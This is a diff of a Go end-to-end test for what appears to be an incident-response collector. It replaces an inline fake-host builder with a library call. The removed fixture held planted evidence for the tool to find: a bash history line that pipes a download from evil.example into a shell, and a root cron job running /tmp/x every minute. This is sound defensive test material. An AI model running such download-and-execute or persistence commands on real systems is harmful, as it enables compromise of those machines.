@@ -4,15 +4,12 @@ package e2e
 import (
 	"context"
 	"fmt"
-	"math/rand/v2"
 	"os"
-	"path/filepath"
 	"testing"
 	"time"
 
 	"github.com/quicklime-ir/quicklime/collector/casefile"
 	"github.com/quicklime-ir/quicklime/packaging/lab/world"
-	"github.com/quicklime-ir/quicklime/proto/lime"
 )
 
 var binaries world.Binaries
@@ -60,35 +57,9 @@ func start(t *testing.T, change func(*world.Config)) *world.World {
 // parts for its memory, and a folder for its files.
 func host(t *testing.T) (image, root string) {
 	t.Helper()
-	dir := t.TempDir()
-	image, root = filepath.Join(dir, "memory.lime"), filepath.Join(dir, "root")
-	f, err := os.Create(image)
+	image, root, err := world.MakeHost(t.TempDir(), 47<<20)
 	if err != nil {
 		t.Fatal(err)
-	}
-	defer f.Close()
-	random := rand.NewChaCha8([32]byte{1})
-	for _, r := range []lime.Range{{Start: 0x1000, End: 0x9fbff}, {Start: 0x100000, End: 0x2ffffff}} {
-		if _, err := f.Write(lime.AppendHeader(nil, r)); err != nil {
-			t.Fatal(err)
-		}
-		b := make([]byte, r.Len())
-		random.Read(b[:len(b)*2/3]) // the rest is zero
-		if _, err := f.Write(b); err != nil {
-			t.Fatal(err)
-		}
-	}
-	for path, text := range map[string]string{
-		"proc/sys/kernel/osrelease": "6.1.0-lab\n", "var/log/auth.log": "Nov 23 sshd: Accepted publickey for root\n",
-		"root/.bash_history": "curl evil.example | sh\n", "etc/passwd": "root:x:0:0::/root:/bin/sh\n", "etc/cron.d/evil": "* * * * * root /tmp/x\n",
-	} {
-		full := filepath.Join(root, path)
-		if err := os.MkdirAll(filepath.Dir(full), 0o755); err != nil {
-			t.Fatal(err)
-		}
-		if err := os.WriteFile(full, []byte(text), 0o644); err != nil {
-			t.Fatal(err)
-		}
 	}
 	return image, root
 }
